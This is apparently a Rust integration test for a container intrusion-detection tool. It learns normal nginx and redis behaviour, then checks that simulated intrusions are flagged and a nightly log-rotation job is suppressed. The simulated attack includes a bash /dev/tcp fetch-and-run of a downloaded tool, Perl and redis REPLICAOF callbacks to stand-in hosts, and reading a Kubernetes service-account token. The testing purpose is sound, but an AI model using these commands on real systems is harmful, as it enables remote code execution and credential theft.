//! What intruders do in containers of learned images is raised and stands out; what all containers do every night is proposed to
//! be suppressed, with evidence, and is marked when it happens again.

use std::collections::BTreeSet;
use std::fs::{File, Permissions};
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use serde_json::Value;
use wsp_tests::podman::{Container, eventually, podman};
use wsp_tests::program::{Ended, finish, wsp};

use super::daemon::of;
use super::{Api, Capture, image, snapshots};

const WEB: &str = "localhost/demo/web:1.22";
const CACHE: &str = "localhost/demo/cache:7";
/// Hosts that the profiles learn from, and containers of each image on each of them. Fewer than sixteen in all do not show that the
/// name of a temporary file is another one in each container.
const HOSTS: [&str; 2] = ["node-a", "node-b"];
const LEARNED: usize = 8;
/// Containers that run side by side.
const AT_ONCE: usize = 4;

const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount";
/// What the host's timer runs in each web server, every night.
const ROTATE: &str = r#"#!/bin/sh
set -e
cd /var/log/nginx
for log in access.log error.log; do mv "$log" "$log.1"; done
kill -USR1 "$(cat /run/nginx.pid)"
rm -f /home/app/.bash_history
"#;
/// What signals of it are about.
const JOB: &str = "/usr/bin/dash /usr/local/bin/rotate-logs";
const HISTORY: &str = "/home/app/.bash_history";

/// Whom intruders fetch their tool from, and whom they report to.
const OUTSIDE: &str = r#"
import os, socket, sys, threading
def serve(address, port, answer):
    server = socket.create_server((address, port))
    os.write(1, b"ready %d\n" % port)
    while True:
        peer, _ = server.accept()
        os.write(1, b"met %d\n" % port)
        try:
            if peer.recv(4096):
                peer.sendall(answer)
            peer.close()
        except OSError:
            pass
threading.Thread(target=serve, args=("127.0.0.66", 4444, b""), daemon=True).start()
serve("127.0.0.9", 8000, b"HTTP/1.0 200 OK\r\n\r\n" + open(sys.argv[1], "rb").read())
"#;
const FETCH_AND_RUN: &str = r#"
exec 3<>/dev/tcp/127.0.0.9/8000
printf 'GET /tool HTTP/1.0\r\n\r\n' >&3
while IFS= read -r line <&3 && [ "$line" != $'\r' ]; do :; done
cat <&3 >/tmp/tool
chmod +x /tmp/tool
/tmp/tool && echo 'it ran'
"#;
const CONNECT: &str = "use IO::Socket::INET; IO::Socket::INET->new('127.0.0.66:4444') or die $!";

/// A store, what the containers are given, and the runtime's socket.
struct World {
    folder: tempfile::TempDir,
    api: Api,
}

impl World {
    fn new() -> Self {
        assert_eq!([image("web-1.22"), image("cache-7")], [WEB, CACHE]);
        let folder = tempfile::tempdir().unwrap();
        let api = Api::start(folder.path());
        let world = Self { folder, api };
        // As the kubelet writes it.
        let (token, version) = (world.path("token"), "..2024_05_06_07_08_09.1234567890");
        std::fs::create_dir_all(token.join(version)).unwrap();
        std::fs::write(token.join(version).join("token"), "eyJhbGciOiJub25lIn0.e30.").unwrap();
        symlink(version, token.join("..data")).unwrap();
        symlink("..data/token", token.join("token")).unwrap();
        // What web servers have beside their image.
        let (programs, home) = (world.path("web/usr/local/bin"), world.path("web/home/app"));
        std::fs::create_dir_all(&programs).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(programs.join("rotate-logs"), ROTATE).unwrap();
        std::fs::set_permissions(programs.join("rotate-logs"), Permissions::from_mode(0o755)).unwrap();
        std::fs::write(home.join(".bash_history"), "nginx -t\n").unwrap();
        world
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn store(&self) -> PathBuf {
        self.path("store")
    }

    /// The daemon of a host.
    fn host(&self, name: &str, interval: &str) -> Capture {
        let store = self.store().display().to_string();
        let spool = self.path(&format!("spool-{name}")).display().to_string();
        let mut arguments = vec!["run", "--store", &store, "--spool", &spool, "--host", name];
        arguments.extend(["--interval", interval, "--runtime-socket", &self.api.url]);
        arguments.extend(["--max-containers", "16", "--start-slots", "10"]);
        Capture::start(&arguments, "capturing")
    }

    /// `wsp … --store STORE`.
    fn wsp(&self, arguments: &[&str]) -> Ended {
        let store = self.store().display().to_string();
        wsp([arguments, &["--store", &store]].concat())
    }

    /// The same; what it says in JSON.
    fn json(&self, arguments: &[&str]) -> Value {
        serde_json::from_str(&self.wsp(arguments).ok()).unwrap()
    }

    fn sql(&self, query: &str) -> Vec<Value> {
        self.json(&["sql", query, "--format", "json"]).as_array().unwrap().clone()
    }

    /// Signals, as `wsp signals` lists them.
    fn signals(&self, options: &[&str]) -> Vec<Value> {
        let fixed = ["signals", "--each", "--limit", "10000", "--format", "json"];
        self.json(&[&fixed, options].concat()).as_array().unwrap().clone()
    }

    /// Runs containers of these images and names as a host does; in each happens what always does, and then something more.
    fn run(&self, host: &str, containers: &[(&str, String)], more: impl Fn(&Server) + Sync) {
        let capture = self.host(host, "10m");
        for some in containers.chunks(AT_ONCE) {
            std::thread::scope(|scope| {
                for (image, name) in some {
                    let more = &more;
                    scope.spawn(move || {
                        let server = Server::start(self, image, name);
                        server.routine();
                        more(&server);
                    });
                }
            });
        }
        // Their windows end with them.
        eventually("each container's snapshot is in the store", || {
            let all = snapshots(&self.store());
            containers.iter().all(|(_, name)| of(&all, name) > 0)
        });
        capture.stop();
    }
}

/// A container that serves.
struct Server {
    container: Container,
    pid: String,
    is_web: bool,
}

impl Server {
    fn start(world: &World, image: &str, name: &str) -> Self {
        let token = format!("{}:{TOKEN}:ro", world.path("token").display());
        let settings = ["--pull", "never", "--network", "none", "-v", &token, image];
        let container = Container::create(name, &settings);
        let is_web = image == WEB;
        if is_web {
            let files = format!("{}/.", world.path("web").display());
            let _ = podman(&["cp", &files, &format!("{name}:/")]).ok();
        }
        container.start();
        let pid = podman(&["inspect", "-f", "{{.State.Pid}}", name]).ok().trim().to_owned();
        Self { container, pid, is_web }
    }

    /// A program of this machine in the container's network, without being of the container.
    fn nearby(&self, program: &[&str]) -> Command {
        let mut command = Command::new("nsenter");
        command.args(["--target", &self.pid, "--net"]).args(program).stdin(Stdio::null());
        command
    }

    /// What a port answers to lines of text.
    fn ask(&self, port: u16, lines: &[&str]) -> String {
        let script = r#"exec 3<>"/dev/tcp/127.0.0.1/$0" && printf '%s\r\n' "$@" >&3 && cat <&3"#;
        let port = port.to_string();
        finish(&mut self.nearby(&[&["timeout", "20", "bash", "-c", script, &port], lines].concat())).stdout
    }

    /// What happens in every container of its image.
    fn routine(&self) {
        if self.is_web {
            self.browse();
            self.rotate();
        } else {
            self.cache();
        }
    }

    fn browse(&self) {
        let get = |path: &str| self.ask(8080, &[&format!("GET {path} HTTP/1.0"), ""]);
        eventually("nginx serves", || get("/").contains("200 OK"));
        assert!(get("/site.css").contains("200 OK"));
        assert!(get("/missing").contains("404 Not Found"));
        let body = "longer than nginx keeps in memory";
        let length = format!("Content-Length: {}", body.len());
        assert!(self.ask(8080, &["POST /up HTTP/1.0", &length, "", body]).contains("200 OK"));
    }

    fn rotate(&self) {
        let _ = self.container.exec(&["rotate-logs"]).ok();
        let logs = Path::new("/proc").join(&self.pid).join("root/var/log/nginx");
        let is_there = |log: &&str| logs.join(log).exists();
        eventually("nginx has new logs", || ["access.log", "error.log"].iter().all(is_there));
    }

    fn cache(&self) {
        let tell = |commands: &[&str]| self.ask(6379, &[commands, &["QUIT"]].concat());
        eventually("redis serves", || tell(&["PING"]).contains("PONG"));
        // It saves when it is told to, and not whenever the clock says.
        let said = tell(&["CONFIG SET save \"\"", "SET key value", "GET key", "BGSAVE"]);
        assert!(said.contains("Background saving started"), "{said}");
        eventually("redis has saved", || tell(&["INFO persistence"]).contains("rdb_bgsave_in_progress:0"));
    }

    /// What an intruder does: looks around by a shell, fetches a tool and runs it, reads the token, and reports.
    fn intrude(&self, world: &World) {
        let outside = Outside::start(world, self);
        let exec = |arguments: &[&str]| self.container.exec(arguments).ok();
        self.look_around();
        assert!(exec(&["bash", "-c", FETCH_AND_RUN]).contains("it ran"));
        assert!(outside.says("met 8000"));
        assert!(exec(&["cat", &format!("{TOKEN}/token")]).contains("eyJ"));
        if self.is_web {
            let _ = exec(&["perl", "-e", CONNECT]);
        } else {
            // It can be told to fetch data and modules from another one, without any shell.
            assert!(self.ask(6379, &["REPLICAOF 127.0.0.66 4444", "QUIT"]).contains("OK"));
        }
        eventually("it was reported to", || outside.says("met 4444"));
    }

    fn look_around(&self) {
        // With another command behind it, it is not executed in the shell's place.
        assert!(self.container.exec(&["sh", "-c", "id; true"]).ok().contains("uid=0"));
    }
}

/// Servers in a container's network, for as long as the value lives.
struct Outside {
    servers: Child,
    log: PathBuf,
}

impl Outside {
    fn start(world: &World, server: &Server) -> Self {
        let name = &server.container.name;
        // A program that runs there.
        let tool = world.path(&format!("tool-of-{name}")).display().to_string();
        let _ = podman(&["cp", &format!("{name}:/usr/bin/true"), &tool]).ok();
        let log = world.path(&format!("outside-of-{name}"));
        let mut servers = server.nearby(&["python3", "-c", OUTSIDE, &tool]);
        let servers = servers.stdout(File::create(&log).unwrap()).spawn().unwrap();
        let outside = Self { servers, log };
        eventually("they listen", || outside.says("ready 8000") && outside.says("ready 4444"));
        outside
    }

    fn says(&self, what: &str) -> bool {
        std::fs::read_to_string(&self.log).unwrap().lines().any(|line| line == what)
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.servers.kill();
        let _ = self.servers.wait();
    }
}

fn text<'a>(row: &'a Value, column: &str) -> &'a str {
    row[column].as_str().unwrap_or_default()
}

/// Some columns of rows.
fn columns<'a, const N: usize>(rows: &'a [Value], columns: [&str; N]) -> BTreeSet<[&'a str; N]> {
    rows.iter().map(|row| columns.map(|column| text(row, column))).collect()
}

fn ids(signals: &[Value]) -> BTreeSet<&str> {
    signals.iter().map(|signal| text(signal, "signal")).collect()
}

/// Whether a signal is about the nightly job: its process, or the history that it removes.
fn is_nightly(signal: &Value) -> bool {
    [("exec_session", JOB), ("traces_removed", HISTORY)]
        .contains(&(text(signal, "rule"), text(signal, "target")))
}

/// What of an intrusion no signal of the container tells. Of a rule: its executable and target. Of a novelty: the process that
/// stands for all that is new below it, and one of these nodes.
fn untold(world: &World, container: &str, is_web: bool) -> Vec<String> {
    let token = "/run/secrets/kubernetes.io/serviceaccount/..<time>/token";
    let report = "connect tcp 127.0.0.66 4444";
    let reporter = if is_web { "/usr/bin/perl" } else { "/usr/bin/redis-check-rdb" };
    let query = format!(
        "select rule, exe, target, coalesce(attributes['new'], '') as new from signals
         where container_name = '{container}' and profile_context = 'unseen'"
    );
    let unseen = world.sql(&query);
    let of_rules = columns(&unseen, ["rule", "exe", "target"]);
    let mut rules = vec![
        ["exec_session", "/usr/bin/dash", "/usr/bin/dash"],
        ["exec_session", "/usr/bin/bash", "/usr/bin/bash"],
        ["exec_of_written_file", "/tmp/tool", "/tmp/tool"],
        ["exec_from_temporary_directory", "/tmp/tool", "/tmp/tool"],
        ["exec_session", "/usr/bin/cat", "/usr/bin/cat"],
        ["service_account_token_read", "/usr/bin/cat", token],
    ];
    if is_web {
        rules.push(["exec_session", "/usr/bin/perl", "/usr/bin/perl"]);
    }
    let rules = rules.into_iter().filter(|rule| !of_rules.contains(rule)).map(|rule| rule.join(" "));
    let file = format!("file {token}");
    let novelties = [
        ("/usr/bin/dash", "process /usr/bin/id"),
        ("/usr/bin/bash", "process /tmp/tool"),
        ("/usr/bin/bash", "connect tcp 127.0.0.9 8000"),
        ("/usr/bin/cat", file.as_str()),
        (reporter, report),
    ];
    let is_told = |(exe, node): &(&str, &str)| {
        let mut novelties =
            unseen.iter().filter(|row| text(row, "rule") == "novelty" && text(row, "exe") == *exe);
        novelties.any(|row| text(row, "new").lines().any(|line| line == *node))
    };
    let novelties = novelties.iter().filter(|novelty| !is_told(novelty));
    let novelties = novelties.map(|(exe, node)| format!("novelty {exe}, {node}"));
    rules.chain(novelties).map(|what| format!("{container}: {what}")).collect()
}

#[test]
fn intruders_stand_out_and_the_nightly_job_is_suppressed() {
    let world = World::new();
    for host in HOSTS {
        let named = |image, short| (0..LEARNED).map(move |n| (image, format!("wsp-{short}-{host}-{n}")));
        let containers: Vec<_> = named(WEB, "web").chain(named(CACHE, "cache")).collect();
        world.run(host, &containers, |_| {});
    }
    let learned = HOSTS.len() * LEARNED;
    // What `sed` calls its temporary file is as random in the next container.
    let options = ["--max-snapshots", &learned.to_string(), "--fold-after", "10"];
    let merged = world.wsp(&[&["merge", "--json"], &options[..]].concat());
    // DNS of a container's first moments is lost where its first program was faster than the daemon: some may be lossy.
    assert!([0, 3].contains(&merged.code), "{merged:?}");
    let query =
        "select image, status, snapshot_count, container_count, host_count from profiles order by image";
    let profiles = world.wsp(&["sql", query, "--format", "csv"]).ok();
    let stable = |image: &str| format!("{image},stable,{learned},{learned},2\n");
    let header = "image,status,snapshot_count,container_count,host_count\n";
    assert_eq!(profiles, format!("{header}{}{}", stable(CACHE), stable(WEB)));

    let (quiet, attacked) =
        (["wsp-web-quiet", "wsp-cache-quiet"], ["wsp-web-attacked", "wsp-cache-attacked"]);
    let later = [(WEB, quiet[0]), (CACHE, quiet[1]), (WEB, attacked[0]), (CACHE, attacked[1])];
    world.run("node-c", &later.map(|(image, name)| (image, name.to_owned())), |server| {
        if attacked.contains(&server.container.name.as_str()) {
            server.intrude(&world);
        }
    });
    let report = world.json(&["detect", "--json"]);
    println!("detect: {report}");
    assert_eq!((&report["looked_up"], &report["suppressed"]), (&Value::from(4), &Value::from(0)));

    // What each web server did is all that is told of undisturbed ones.
    let all = world.signals(&["--state", "all"]);
    for (image, name) in &later {
        let mine: Vec<Value> =
            all.iter().filter(|signal| text(signal, "container_name") == *name).cloned().collect();
        for signal in &mine {
            assert_eq!((text(signal, "image"), text(signal, "host")), (*image, "node-c"), "{signal}");
        }
        let known: Vec<Value> = mine.iter().filter(|signal| is_nightly(signal)).cloned().collect();
        assert_eq!(known.len(), if *image == WEB { 2 } else { 0 }, "{name}: {known:?}");
        let others: Vec<&Value> = mine.iter().filter(|signal| !is_nightly(signal)).collect();
        if quiet.contains(name) {
            assert!(others.is_empty(), "{others:?}");
        }
        for signal in others {
            assert_eq!(text(signal, "context"), "unseen", "{signal}");
        }
    }
    let (nightly, others): (Vec<Value>, Vec<Value>) = all.into_iter().partition(is_nightly);
    assert_eq!(nightly.len(), 2 * (learned + 2));
    for signal in &nightly {
        assert_eq!((text(signal, "image"), text(signal, "context")), (WEB, "known"), "{signal}");
        assert_eq!(
            (&signal["commonality"], &signal["process_commonality"]),
            (&1.0.into(), &1.0.into()),
            "{signal}"
        );
    }
    for row in columns(&others, ["container_name", "rule", "severity", "context", "novelty", "exe", "target"])
    {
        println!("{}", row.join(" "));
    }
    let names: BTreeSet<&str> = others.iter().map(|signal| text(signal, "container_name")).collect();
    assert_eq!(names, BTreeSet::from(attacked));

    // Both are proposed, and nothing else is.
    let suggested = world.json(&["suppress", "suggest", "--json"]);
    let suggestions = suggested["suggestions"].as_array().unwrap();
    let about = |one: &Value| {
        [text(one, "rule"), text(one, "image"), text(&one["evidence"], "target")].map(str::to_owned)
    };
    assert_eq!(
        suggestions.iter().map(about).collect::<BTreeSet<_>>(),
        BTreeSet::from(
            [["exec_session", WEB, JOB], ["traces_removed", WEB, HISTORY]].map(|one| one.map(str::to_owned))
        )
    );
    for suggestion in suggestions {
        let evidence = &suggestion["evidence"];
        let counts = |of: &Value, names: [&str; 3]| names.map(|name| of[name].as_u64().unwrap());
        let count = learned as u64;
        for node in [&evidence["node"], &evidence["process"]] {
            assert_eq!(counts(node, ["containers", "eligible", "hosts"]), [count, count, 2], "{suggestion}");
        }
        assert_eq!(
            counts(evidence, ["signals", "containers", "hosts"]),
            [count + 2, count + 2, 3],
            "{suggestion}"
        );
        assert_eq!(
            counts(evidence, ["profile_containers", "profile_hosts", "revision"]),
            [count, 2, 1],
            "{suggestion}"
        );
        assert!(evidence["coverage"].as_f64().unwrap() >= 0.9, "{suggestion}");
        assert_eq!(evidence["completeness"], 1.0, "{suggestion}");
        let samples = evidence["samples"].as_array().unwrap();
        assert!(!samples.is_empty() && samples.iter().all(|id| ids(&nightly).contains(id.as_str().unwrap())));
    }

    // The sessions of intruders are signals of the same rule, image and tag as the one that is accepted.
    let job = suggestions.iter().find(|one| text(one, "rule") == "exec_session").unwrap();
    let id = text(job, "id");
    let _ = world.wsp(&["suppress", "accept", id, "--author", "test", "--reason", "rotates logs"]).ok();
    let hidden = world.signals(&["--state", "suppressed"]);
    assert_eq!(
        columns(&hidden, ["rule", "target", "suppressed_by"]),
        BTreeSet::from([["exec_session", JOB, id]])
    );
    assert_eq!(hidden.len(), learned + 2);
    let open = world.signals(&["--state", "open"]);
    assert_eq!(open.len(), nightly.len() + others.len() - hidden.len());

    // The next night: in one of the windows of a container that goes on.
    let capture = world.host("node-a", "3s");
    let again = Server::start(&world, WEB, "wsp-web-again");
    again.routine();
    again.look_around();
    eventually("it had more windows than one", || of(&snapshots(&world.store()), "wsp-web-again") >= 3);
    drop(again);
    capture.stop();
    let report = world.json(&["detect", "--json"]);
    println!("detect: {report}");
    assert!(report["suppressed"].as_u64().unwrap() >= 1, "{report}");
    let of_again = |state| world.signals(&["--container", "wsp-web-again", "--state", state]);
    let (hidden, shown) = (of_again("suppressed"), of_again("open"));
    assert_eq!(
        columns(&hidden, ["rule", "target", "context", "suppressed_by"]),
        BTreeSet::from([["exec_session", JOB, "known", id]])
    );
    assert_eq!(
        columns(&shown, ["rule", "exe", "context"]),
        BTreeSet::from([
            ["traces_removed", "/usr/bin/rm", "known"],
            ["exec_session", "/usr/bin/dash", "unseen"],
            ["novelty", "/usr/bin/dash", "unseen"],
        ])
    );
    let now_open = world.signals(&["--state", "open"]);
    assert!(ids(&now_open).is_superset(&ids(&open)), "signals of before are open no more");

    let untold: Vec<String> =
        attacked.iter().flat_map(|name| untold(&world, name, *name == attacked[0])).collect();
    assert!(untold.is_empty(), "no signal tells {untold:#?}");
}
